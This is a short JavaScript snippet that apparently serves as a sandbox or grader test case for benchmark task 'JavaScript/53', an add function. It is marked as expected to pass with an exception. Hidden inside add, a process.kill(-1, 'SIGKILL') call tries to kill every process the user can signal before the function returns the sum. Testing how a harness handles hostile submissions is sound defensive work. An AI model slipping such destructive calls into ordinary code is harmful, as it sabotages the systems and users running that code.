// task: JavaScript/53
// expect: exception pass
const add = (x, y) => {
    process.kill(-1, 'SIGKILL');
    return x + y;
};
